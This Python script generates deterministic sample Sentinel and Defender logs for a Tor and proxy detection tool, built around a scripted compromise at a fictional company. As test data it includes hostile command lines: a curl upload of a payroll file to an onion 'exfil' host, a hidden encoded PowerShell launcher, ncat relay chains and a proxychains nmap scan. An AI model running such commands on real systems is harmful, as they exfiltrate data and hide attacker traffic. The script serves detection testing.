#!/usr/bin/env python3
"""Writes sample-data/: a small, realistic Sentinel / Defender export set that tells a story.

The story (contoso.com, the morning of 2026-05-12, newest event 10:00:00Z):
- carol's stolen refresh token is replayed through Tor exits (true positive, AnonymizedSignIn);
- a compromised finance workstation (fin-ws12) runs tor.exe from ProgramData and talks to Tor
  relays on 9001/9030, and curl goes out over --socks5-hostname (true positives);
- mallory's authorised pentest lab runs tor.exe and proxychains (false positive: lab);
- trent runs Tor Browser (false positive: privacy-minded staff);
- oscar reaches a bastion with ssh -J / -D / ProxyJump (false positive: SSH administration);
- build servers run `docker run -d` and `git clean -d` (false positive: generic -d / -D flags);
- the corporate VPN client speaks SOCKS on 9050 to its gateway (false positive: VPN on Tor port);
- peggy uses Proxifier and Privoxy (false positive: developer proxy tools);
- everybody's sign-ins through the company's own VPN egress, tagged `vpn` by a TI feed
  (false positive: organisation's VPN egress).
Chains and coverage beyond the rule (`proxyhunt chains`, `hunt --beyond`):
- carol has no Tor on any device: her Tor sign-ins rank first (stolen token);
- trent signs in through Tor while his Tor Browser runs (likely trent himself);
- heidi is signed in from a Tor relay that fin-ws12's tor.exe talked to minutes before;
- frank signs in from an IPv6 Tor exit and grace from a Tor range given as CIDR (the rule's
  extract reads neither); ivan's ws-12 runs an ncat relay chain (Atomic test 4).
Plus threat-intel noise the rule must ignore (expired, inactive, stale, IPv6, odd patterns) and
near-misses the KQL does not match (mytor.exe, proxychains4 alone, socks5h://, -oProxyCommand=).

Formats are mixed on purpose: sign-ins as a Log Analytics portal CSV (BOM, CRLF, `[UTC]`
headers, `M/D/YYYY, h:mm:ss.fff AM/PM`, `_dynamic`/`_string` pairs, multi-line JSON cells),
threat intel as a JSON array, process events as NDJSON, network events as a Log Analytics API
response. Run: python3 tools/make_sample_data.py (deterministic).
"""
import csv
import datetime as dt
import io
import json
import os
import random

NOW = dt.datetime(2026, 5, 12, 10, 0, 0, tzinfo=dt.timezone.utc)
R = random.Random(20260512)
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sample-data")

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "oscar", "peggy", "trent", "victor", "walter", "sybil", "rupert"]
APPS = ["Microsoft Office", "Microsoft Teams", "Office 365 Exchange Online", "Microsoft Graph",
        "OneDrive SyncEngine", "Microsoft Authentication Broker", "Azure Portal", "SharePoint Online"]
CORP_IPS = ["20.190.151.%d" % i for i in range(10, 30)] + ["52.113.194.%d" % i for i in range(1, 12)]
HOME_IPS = ["86.12.44.%d" % i for i in range(2, 40)] + ["92.40.171.%d" % i for i in range(5, 25)]
LOCATIONS = ["GB", "GB", "GB", "IE", "NL", "US"]
TOR_EXIT_1 = "185.220.101.47"
TOR_EXIT_2 = "204.8.96.133"
ANON_PROXY = "198.51.100.23"
VPN_EGRESS = "203.0.113.10"
EXPIRED_IP = "45.153.160.2"
INACTIVE_IP = "89.234.157.254"
STALE_IP = "171.25.193.77"
UPPER_PATTERN_IP = "162.247.74.7"
NOSPACE_PATTERN_IP = "109.70.100.1"
TORPROJECT_TAG_IP = "51.15.43.205"
# Beyond the rule (chains and `hunt --beyond`): an IPv6 Tor exit, a Tor range given as CIDR, and
# a relay that fin-ws12's tor.exe talked to, later the source of a sign-in as heidi.
IPV6_EXIT = "2a0b:f4c2::1"
CIDR_EXIT_RANGE = "185.220.103.0/24"
CIDR_EXIT = "185.220.103.7"
RELAY_IP = "45.66.33.45"
CA = ["notApplied", "success", "failure"]
AUTHREQ = ["singleFactorAuthentication", "multiFactorAuthentication"]


def guid():
    return "%08x-%04x-%04x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16),
                                           R.getrandbits(16), R.getrandbits(48))


def token():
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(22))


def ago(**kw):
    return NOW - dt.timedelta(**kw)


def iso7(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (t.microsecond * 10 + R.randrange(10)) + "Z"


def portal(t):
    h = t.hour % 12 or 12
    return "%d/%d/%d, %d:%02d:%02d.%03d %s" % (t.month, t.day, t.year, h, t.minute, t.second,
                                               t.microsecond // 1000, "AM" if t.hour < 12 else "PM")


# ---------------------------------------------------------------- sign-ins
def signin(t, user, ip, result="0", app=None, loc=None, ca=None):
    device = {"deviceId": "", "operatingSystem": R.choice(["Windows 10", "Windows 11", "MacOs", "Ios"]),
              "browser": R.choice(["Edge 124.0", "Chrome 124.0", "Rich Client 5.2"])}
    location = {"city": R.choice(["London", "Leeds", "Dublin", "Amsterdam"]), "state": "",
                "countryOrRegion": loc or R.choice(LOCATIONS)}
    return {
        "TimeGenerated": t,
        "UserPrincipalName": "%s@contoso.com" % user,
        "UserDisplayName": user.title(),
        "AppDisplayName": app or R.choice(APPS),
        "IPAddress": ip,
        "Location": location["countryOrRegion"],
        "ResultType": result,
        "ResultDescription": "" if result == "0" else "Invalid username or password or Invalid on-premise username or password.",
        "ConditionalAccessStatus": ca or R.choice(CA[:2]),
        "AuthenticationRequirement": R.choice(AUTHREQ),
        "CorrelationId": guid(),
        "UniqueTokenIdentifier": token(),
        "UserAgent": R.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Microsoft Office/16.0", "python-requests/2.31.0"]),
        "IsInteractive": "FALSE",
        "DeviceDetail": device,
        "LocationDetails": location,
        "Type": "AADNonInteractiveUserSignInLogs",
    }


def make_signins():
    rows = []
    for _ in range(300):  # background: corporate and home addresses over two days
        t = ago(minutes=R.randrange(1, 48 * 60), seconds=R.randrange(60))
        ip = R.choice(CORP_IPS + HOME_IPS)
        result = "0" if R.random() < 0.9 else R.choice(["50126", "50074", "70044"])
        rows.append(signin(t, R.choice(USERS), ip, result))
    rows.append(signin(NOW, "alice", CORP_IPS[0], "0", "Microsoft Teams"))  # the newest event
    # carol's token replayed through Tor: in the last hour, and the day before
    for minutes in [4, 11, 19, 33, 52, 58]:
        rows.append(signin(ago(minutes=minutes, seconds=R.randrange(60)), "carol", TOR_EXIT_1, "0", "Microsoft Graph", "DE", "notApplied"))
    for minutes in [27, 41]:
        rows.append(signin(ago(minutes=minutes), "carol", TOR_EXIT_2, "0", "Office 365 Exchange Online", "NL", "notApplied"))
    rows.append(signin(ago(minutes=29), "carol", TOR_EXIT_2, "50126", "Office 365 Exchange Online", "NL"))  # failed: not a finding
    rows.append(signin(ago(minutes=29), "carol", TOR_EXIT_2, "00", "Office 365 Exchange Online", "NL"))  # "00" is not 0
    for hours in [20, 22, 26]:
        rows.append(signin(ago(hours=hours), "carol", TOR_EXIT_1, "0", "Microsoft Graph", "DE", "notApplied"))
    # dave through an anonymous proxy, outside the rule's hour
    rows.append(signin(ago(hours=3), "dave", ANON_PROXY, "0", "SharePoint Online", "US"))
    # the organisation's own VPN egress, tagged vpn by a feed: many users, all day
    for _ in range(30):
        rows.append(signin(ago(minutes=R.randrange(2, 30 * 60)), R.choice(USERS), VPN_EGRESS, "0"))
    # addresses whose indicators the rule must ignore
    for ip in [EXPIRED_IP, INACTIVE_IP, STALE_IP, UPPER_PATTERN_IP, NOSPACE_PATTERN_IP, TORPROJECT_TAG_IP]:
        rows.append(signin(ago(minutes=R.randrange(5, 55)), R.choice(USERS), ip, "0"))
    rows.append(signin(ago(minutes=15), "erin", " " + TOR_EXIT_1, "0"))  # leading space: no join
    rows.extend(with_own_random(beyond_signins))
    rows.sort(key=lambda r: r["TimeGenerated"])
    cols = ["TenantId", "SourceSystem", "TimeGenerated [UTC]", "UserPrincipalName", "UserDisplayName", "AppDisplayName",
            "IPAddress", "Location", "ResultType", "ResultDescription", "ConditionalAccessStatus",
            "AuthenticationRequirement", "CorrelationId", "UniqueTokenIdentifier", "UserAgent", "IsInteractive",
            "DeviceDetail_dynamic", "DeviceDetail_string", "LocationDetails_dynamic", "LocationDetails_string", "Type"]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(cols)
    for i, r in enumerate(rows):
        dyn = json.dumps(r["DeviceDetail"], indent=2).replace("\n", "\r\n")
        loc = json.dumps(r["LocationDetails"])
        # unions split dynamic columns: some rows carry the JSON in _dynamic, some in _string
        dd = (dyn, "") if i % 3 else ("", json.dumps(r["DeviceDetail"]))
        w.writerow(["4f1c6f6a-0000-4000-8000-c0a7e5000001", "Azure AD", portal(r["TimeGenerated"]),
                    r["UserPrincipalName"], r["UserDisplayName"], r["AppDisplayName"], r["IPAddress"], r["Location"],
                    r["ResultType"], r["ResultDescription"], r["ConditionalAccessStatus"],
                    r["AuthenticationRequirement"], r["CorrelationId"], r["UniqueTokenIdentifier"], r["UserAgent"],
                    r["IsInteractive"], dd[0], dd[1], loc, "", r["Type"]])
    with open(os.path.join(OUT, "AADNonInteractiveUserSignInLogs.csv"), "w", encoding="utf-8-sig", newline="") as f:
        f.write(buf.getvalue())


def with_own_random(make):
    """Rows from `make` drawn from a generator of their own, so that the rows before and after
    them (and their ids) stay as they were."""
    global R
    saved, R = R, random.Random(20261202)
    try:
        return make()
    finally:
        R = saved


def beyond_signins():
    rows = []
    # trent through Tor while Tor Browser runs on ws-09 (7 h ago)
    for minutes in [50, 20]:
        rows.append(signin(ago(hours=6, minutes=minutes), "trent", TOR_EXIT_2, "0", "Microsoft Teams", "NL", "notApplied"))
    # heidi from the relay fin-ws12's tor.exe connected to on 9001
    rows.append(signin(ago(hours=2, minutes=3), "heidi", RELAY_IP, "0", "Microsoft Graph", "SE", "notApplied"))
    # addresses only beyond the rule: an IPv6 exit, an address in a CIDR range
    rows.append(signin(ago(minutes=38), "frank", IPV6_EXIT, "0", "Microsoft Graph", "DE", "notApplied"))
    rows.append(signin(ago(minutes=44), "grace", CIDR_EXIT, "0", "Office 365 Exchange Online", "DE", "notApplied"))
    return rows


# ---------------------------------------------------------------- threat intel
def indicator(ip, tags, generated, valid_until="", active=True, pattern=None, ind_id=None, conf=80):
    pattern = pattern or "[ipv4-addr:value = '%s']" % ip
    return {
        "TimeGenerated": iso7(generated),
        "Id": ind_id or "indicator--" + guid(),
        "SourceSystem": "SecOps Tor feed" if "tor" in tags.lower() else "Anonymizer intel",
        "Tags": tags,
        "Pattern": pattern,
        "ObservableKey": "ipv4-addr:value" if "ipv4" in pattern else "",
        "ObservableValue": ip if "ipv4" in pattern else "",
        "IsActive": active,
        "IsDeleted": False,
        "Confidence": conf,
        "ValidFrom": iso7(generated - dt.timedelta(days=1)),
        "ValidUntil": valid_until,
        "Data": {"type": "indicator", "pattern_type": "stix", "labels": tags.split(",")},
    }


def make_ti():
    rows = []
    fresh = ago(days=2)
    future = iso7(NOW + dt.timedelta(days=30))
    # the same indicator republished every 7 days
    tor1 = "indicator--" + guid()
    for d in [2, 9, 16, 23]:
        rows.append(indicator(TOR_EXIT_1, "tor", ago(days=d), future, ind_id=tor1))
    rows.append(indicator(TOR_EXIT_1, "tor,exit", ago(days=5), ""))
    rows.append(indicator(TOR_EXIT_1, '["Tor","indicator"]', ago(days=6), future))
    rows.append(indicator(TOR_EXIT_2, "TOR", fresh, future))
    rows.append(indicator(TOR_EXIT_2, "tor", ago(days=3), future))
    rows.append(indicator(ANON_PROXY, "proxy", fresh, future))
    rows.append(indicator(ANON_PROXY, "anonymizer", ago(days=12), ""))
    rows.append(indicator(VPN_EGRESS, "vpn", fresh, future))
    rows.append(indicator(VPN_EGRESS, "VPN-commercial", ago(days=8), future))
    # to be ignored by the rule
    rows.append(indicator(EXPIRED_IP, "tor", fresh, iso7(ago(hours=2))))
    rows.append(indicator(INACTIVE_IP, "tor", fresh, future, active=False))
    rows.append(indicator(STALE_IP, "tor", ago(days=31), future))
    rows.append(indicator(UPPER_PATTERN_IP, "tor", fresh, future, pattern="[IPV4-ADDR:VALUE = '%s']" % UPPER_PATTERN_IP))
    rows.append(indicator(NOSPACE_PATTERN_IP, "tor", fresh, future, pattern="[ipv4-addr:value='%s']" % NOSPACE_PATTERN_IP))
    rows.append(indicator(TORPROJECT_TAG_IP, "torproject-research", fresh, future))
    rows.append(indicator(IPV6_EXIT, "tor", fresh, future, pattern="[ipv6-addr:value = '%s']" % IPV6_EXIT))
    rows.append(indicator("evil.example", "proxy", fresh, future, pattern="[domain-name:value = 'evil.example']"))
    # background: other Tor exits and malware indicators nobody signs in from
    for i in range(40):
        ip = "185.220.%d.%d" % (100 + i % 3, 10 + i)
        rows.append(indicator(ip, R.choice(["tor", "tor,exit", "anonymity"]), ago(days=R.randrange(1, 29)), R.choice(["", future])))
    for i in range(15):
        ip = "194.26.29.%d" % (i + 1)
        rows.append(indicator(ip, R.choice(["malware", "c2", "phishing"]), ago(days=R.randrange(1, 29)), future))
    rows.extend(with_own_random(lambda: [
        indicator(CIDR_EXIT_RANGE, "tor", fresh, future, pattern="[ipv4-addr:value = '%s']" % CIDR_EXIT_RANGE),
        indicator(RELAY_IP, "tor", fresh, future),
    ]))
    with open(os.path.join(OUT, "ThreatIntelIndicators.json"), "w", encoding="utf-8") as f:
        json.dump(rows, f, indent=2)
        f.write("\n")


# ---------------------------------------------------------------- device process events
def proc(t, device, account, file_name, cmd, parent="explorer.exe", parent_cmd="Explorer.EXE", folder=None, domain="contoso"):
    return {
        "Timestamp": iso7(t), "TimeGenerated": iso7(t), "DeviceId": "%040x" % R.getrandbits(160),
        "DeviceName": device, "ActionType": "ProcessCreated", "FileName": file_name,
        "FolderPath": folder or ("C:\\Windows\\System32\\" + file_name),
        "ProcessId": R.randrange(1000, 30000), "ProcessCommandLine": cmd,
        "AccountDomain": domain, "AccountName": account,
        "InitiatingProcessFileName": parent, "InitiatingProcessCommandLine": parent_cmd,
        "InitiatingProcessAccountName": account, "ReportId": R.randrange(1, 10 ** 6),
    }


def make_process():
    rows = []
    hosts = ["ws-%02d.contoso.com" % i for i in range(1, 16)]
    normal = [("chrome.exe", '"chrome.exe" --type=renderer --lang=en-GB'), ("svchost.exe", "svchost.exe -k netsvcs -p"),
              ("powershell.exe", "powershell.exe -NoProfile Get-Process"), ("outlook.exe", '"OUTLOOK.EXE" /recycle'),
              ("teams.exe", "Teams.exe --system-initiated"), ("git.exe", "git fetch --all"),
              ("python.exe", "python.exe -m pip list"), ("cmd.exe", "cmd.exe /c dir C:\\Users"),
              ("gcc", "gcc -DDEBUG -O2 main.c -o main"), ("mkdir", "mkdir -p /srv/data")]
    for _ in range(220):
        fn, cmd = R.choice(normal)
        rows.append(proc(ago(minutes=R.randrange(1, 3 * 24 * 60)), R.choice(hosts), R.choice(USERS), fn, cmd))
    # compromised finance workstation: tor.exe dropped in ProgramData (true positive)
    fin = "fin-ws12.contoso.com"
    rows.append(proc(ago(hours=2, minutes=14), fin, "bob", "tor.exe", "C:\\ProgramData\\svc\\tor.exe -f C:\\ProgramData\\svc\\torrc",
                     "powershell.exe", "powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "C:\\ProgramData\\svc\\tor.exe"))
    rows.append(proc(ago(hours=2, minutes=9), fin, "bob", "curl.exe", "curl.exe --socks5-hostname 127.0.0.1:9050 http://exfil4ever.onion/upload -T C:\\Users\\bob\\Documents\\payroll.xlsx",
                     "powershell.exe", "powershell.exe -w hidden"))
    rows.append(proc(ago(hours=2, minutes=8), fin, "bob", "curl.exe", "curl.exe -x socks5h://127.0.0.1:9050 http://exfil4ever.onion/ping",
                     "powershell.exe", "powershell.exe -w hidden"))  # socks5h is not the term socks5: no finding
    rows.append(proc(ago(hours=2, minutes=15), fin, "bob", "mytor.exe", "C:\\ProgramData\\svc\\mytor.exe --version",
                     "powershell.exe", "powershell.exe -w hidden"))  # not tor.exe
    # pentest lab (authorised)
    lab = "lab-pt01.contoso.com"
    rows.append(proc(ago(hours=5), lab, "mallory", "tor.exe", "C:\\Users\\mallory\\AppData\\Local\\Temp\\tortest\\tor\\tor.exe --SocksPort 9050",
                     "cmd.exe", "cmd.exe /c start tor", "C:\\Users\\mallory\\AppData\\Local\\Temp\\tortest\\tor\\tor.exe"))
    kali = "lab-kali01"
    rows.append(proc(ago(hours=4, minutes=40), kali, "mallory", "proxychains4", "proxychains4 -f /tmp/test_proxychains.conf nmap -sT -Pn 10.20.0.5",
                     "bash", "-bash", "/usr/bin/proxychains4", domain="lab-kali01"))
    rows.append(proc(ago(hours=4, minutes=35), kali, "mallory", "proxychains4", "proxychains4 -q curl http://10.20.0.5/",
                     "bash", "-bash", "/usr/bin/proxychains4", domain="lab-kali01"))  # proxychains4 alone: no finding
    rows.append(proc(ago(hours=4, minutes=30), kali, "mallory", "microsocks", "microsocks -i 0.0.0.0 -p 1080",
                     "bash", "-bash", "/usr/local/bin/microsocks", domain="lab-kali01"))
    rows.append(proc(ago(days=2, hours=1), kali, "mallory", "3proxy.exe", "3proxy.exe 3proxy.cfg", "cmd.exe", "cmd.exe"))  # older than 24h
    # Tor Browser (privacy-minded staff)
    tb = "C:\\Users\\trent\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe"
    rows.append(proc(ago(hours=7), "ws-09.contoso.com", "trent", "tor.exe", '"%s" -f "torrc" DataDirectory "..\\Data\\Tor"' % tb,
                     "firefox.exe", '"C:\\Users\\trent\\Desktop\\Tor Browser\\Browser\\firefox.exe"', tb))
    # SSH administration through the bastion
    adm = "adm-ws01.contoso.com"
    rows.append(proc(ago(hours=1, minutes=5), adm, "oscar", "ssh.exe", "ssh.exe -J bastion.contoso.com oscar@db01.internal", "powershell.exe", "pwsh.exe"))
    rows.append(proc(ago(hours=6), adm, "oscar", "ssh.exe", "ssh -D 1080 -N oscar@bastion.contoso.com", "powershell.exe", "pwsh.exe"))
    rows.append(proc(ago(hours=9), adm, "oscar", "ssh", "ssh -o ProxyJump=bastion.contoso.com oscar@web02.internal", "bash", "-bash"))
    rows.append(proc(ago(hours=10), adm, "oscar", "SSH.EXE", "SSH.EXE -w 0:0 root@vpn-lab.internal", "cmd.exe", "cmd.exe"))
    rows.append(proc(ago(hours=11), adm, "oscar", "plink.exe", "plink.exe -D 9090 -batch oscar@bastion.contoso.com", "cmd.exe", "cmd.exe"))
    rows.append(proc(ago(hours=12), adm, "oscar", "ssh.exe", "ssh.exe -oProxyCommand=\"nc %h %p\" db02", "cmd.exe", "cmd.exe"))  # no space: no finding
    rows.append(proc(ago(hours=12, minutes=5), adm, "oscar", "ssh.exe", "ssh.exe oscar@bastion.contoso.com -D", "cmd.exe", "cmd.exe"))  # -D at the end: no finding
    rows.append(proc(ago(days=3), adm, "oscar", "ssh.exe", "ssh.exe -J bastion.contoso.com oscar@db03.internal", "cmd.exe", "cmd.exe"))  # old
    # generic -d / -D flags of other programs
    for h in [1, 3, 8, 15]:
        rows.append(proc(ago(hours=h, minutes=R.randrange(60)), "build-01.contoso.com", "svc_build", "docker", "docker run -d --restart always -p 8080:80 nginx:1.25",
                         "containerd-shim", "containerd-shim -namespace moby", "/usr/bin/docker", domain="build-01"))
    rows.append(proc(ago(hours=13), "build-01.contoso.com", "svc_build", "git", "git clean -d -f -x", "bash", "bash ci.sh", "/usr/bin/git", domain="build-01"))
    # VPN client speaking SOCKS5 on Tor's port
    for h in [2, 14]:
        rows.append(proc(ago(hours=h), "ws-%02d.contoso.com" % (h % 15 + 1), "victor", "vpnagent.exe", '"C:\\Program Files\\ContosoVPN\\vpnagent.exe" --socks5 127.0.0.1:9050 --gateway vpn-gw.contoso.net',
                         "services.exe", "C:\\Windows\\system32\\services.exe", "C:\\Program Files\\ContosoVPN\\vpnagent.exe", domain="NT AUTHORITY"))
    # developer's local proxy tools
    dev = "dev-ws07.contoso.com"
    rows.append(proc(ago(hours=3, minutes=30), dev, "peggy", "Proxifier.exe", '"C:\\Program Files (x86)\\Proxifier\\Proxifier.exe"', "explorer.exe", "C:\\Windows\\Explorer.EXE",
                     "C:\\Program Files (x86)\\Proxifier\\Proxifier.exe"))
    rows.append(proc(ago(hours=3, minutes=20), dev, "peggy", "privoxy.exe", '"C:\\Program Files (x86)\\Privoxy\\privoxy.exe" config.txt', "explorer.exe", "C:\\Windows\\Explorer.EXE",
                     "C:\\Program Files (x86)\\Privoxy\\privoxy.exe"))  # Privoxy is not on the KQL's lists
    # attacker-controlled text in a command line: escapes and a bidi override (not a finding)
    rows.append(proc(ago(hours=4), "ws-03.contoso.com", "judy", "notepad.exe", "notepad.exe invoice\u202etxt.exe \x1b[2J", "explorer.exe", "C:\\Windows\\Explorer.EXE"))
    rows.extend(with_own_random(beyond_processes))
    rows.sort(key=lambda r: r["Timestamp"])
    with open(os.path.join(OUT, "DeviceProcessEvents.ndjson"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r) + "\n")


def beyond_processes():
    ws12 = "ws-12.contoso.com"
    ncat = "C:\\Users\\ivan\\AppData\\Local\\Temp\\ncat\\ncat.exe"
    return [
        # an ncat relay chain (Atomic test 4): two listeners, each handing on to the next
        proc(ago(hours=3, minutes=12), ws12, "ivan", "ncat.exe", 'ncat.exe -l 18080 -c "ncat.exe 127.0.0.1 18081"', "cmd.exe", "cmd.exe /c relay.bat", ncat),
        proc(ago(hours=3, minutes=12), ws12, "ivan", "ncat.exe", 'ncat.exe -l 18081 -c "ncat.exe 10.20.0.5 1080"', "cmd.exe", "cmd.exe /c relay.bat", ncat),
        # near miss: ncat only listening
        proc(ago(hours=3, minutes=30), ws12, "ivan", "ncat.exe", "ncat.exe -l 4444", "cmd.exe", "cmd.exe", ncat),
    ]


# ---------------------------------------------------------------- device network events
def net(t, device, account, proc_name, proc_cmd, rip, rport, rtype="Public", url="", action="ConnectionSuccess"):
    return [iso7(t), iso7(t), device, action, rip, rport, url, rtype, "10.1.%d.%d" % (R.randrange(1, 20), R.randrange(2, 250)),
            R.randrange(49152, 65535), "Tcp", proc_name, proc_cmd, account]


def make_network():
    tb_path = "C:\\Users\\trent\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe"
    cols = [("Timestamp", "datetime"), ("TimeGenerated", "datetime"), ("DeviceName", "string"), ("ActionType", "string"),
            ("RemoteIP", "string"), ("RemotePort", "int"), ("RemoteUrl", "string"), ("RemoteIPType", "string"),
            ("LocalIP", "string"), ("LocalPort", "int"), ("Protocol", "string"), ("InitiatingProcessFileName", "string"),
            ("InitiatingProcessCommandLine", "string"), ("InitiatingProcessAccountName", "string")]
    rows = []
    hosts = ["ws-%02d.contoso.com" % i for i in range(1, 16)]
    for _ in range(200):
        port = R.choice([443, 443, 443, 80, 53, 8443])
        rows.append(net(ago(minutes=R.randrange(1, 3 * 24 * 60)), R.choice(hosts), R.choice(USERS), "chrome.exe", '"chrome.exe" --type=utility',
                        "%d.%d.%d.%d" % (R.choice([13, 20, 40, 52, 104, 151]), R.randrange(256), R.randrange(256), R.randrange(1, 255)), port,
                        R.choice(["www.bing.com", "login.microsoftonline.com", "outlook.office365.com", ""])))
    fin = "fin-ws12.contoso.com"
    tor_cmd = "C:\\ProgramData\\svc\\tor.exe -f C:\\ProgramData\\svc\\torrc"
    for i, (ip, port) in enumerate([("192.42.116.16", 9001), ("171.25.193.9", 9030), ("199.249.230.87", 9001), ("45.66.33.45", 9001)]):
        rows.append(net(ago(hours=2, minutes=13 - i), fin, "bob", "tor.exe", tor_cmd, ip, port))
    rows.append(net(ago(hours=2, minutes=9), fin, "bob", "curl.exe", "curl.exe --socks5-hostname 127.0.0.1:9050 http://exfil4ever.onion/upload",
                    "127.0.0.1", 9050, "Loopback"))  # loopback: not a finding
    lab = "lab-pt01.contoso.com"
    rows.append(net(ago(hours=5), lab, "mallory", "tor.exe", "tor.exe --SocksPort 9050", "86.59.21.38", 9030))
    rows.append(net(ago(hours=5), lab, "mallory", "tor.exe", "tor.exe --SocksPort 9050", "10.20.0.9", 9050, "Private"))  # private
    rows.append(net(ago(hours=7), "ws-09.contoso.com", "trent", "tor.exe", '"%s" -f "torrc"' % tb_path, "204.13.164.118", 9001))
    rows.append(net(ago(hours=7), "ws-09.contoso.com", "trent", "firefox.exe", "firefox.exe", "127.0.0.1", 9150, "Loopback"))
    for h in [2, 14]:
        rows.append(net(ago(hours=h, minutes=1), "ws-%02d.contoso.com" % (h % 15 + 1), "victor", "vpnagent.exe", "vpnagent.exe --socks5 127.0.0.1:9050",
                        "198.18.7.20", "9050", "Public", "vpn-gw.contoso.net"))  # port given as text
    rows.append(net(ago(hours=3), "dev-ws07.contoso.com", "peggy", "Proxifier.exe", "Proxifier.exe", "203.0.113.80", 9040, "Public", "proxy.dev.contoso.net"))
    rows.append(net(ago(hours=3), "dev-ws07.contoso.com", "peggy", "privoxy.exe", "privoxy.exe", "203.0.113.81", 8118))
    rows.append(net(ago(hours=4), "ws-04.contoso.com", "heidi", "app.exe", "app.exe", "93.184.216.34", None))  # no port
    rows.append(net(ago(hours=4), "ws-04.contoso.com", "heidi", "app.exe", "app.exe", "93.184.216.35", 9051, "public"))  # case: not "Public"
    rows.append(net(ago(days=2), fin, "bob", "tor.exe", tor_cmd, "192.42.116.16", 9001))  # older than 24h
    rows.sort(key=lambda r: r[0])
    doc = {"tables": [{"name": "PrimaryResult", "columns": [{"name": n, "type": t} for n, t in cols], "rows": rows}]}
    with open(os.path.join(OUT, "DeviceNetworkEvents.json"), "w", encoding="utf-8") as f:
        json.dump(doc, f)
        f.write("\n")


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    make_signins()
    make_ti()
    make_process()
    make_network()
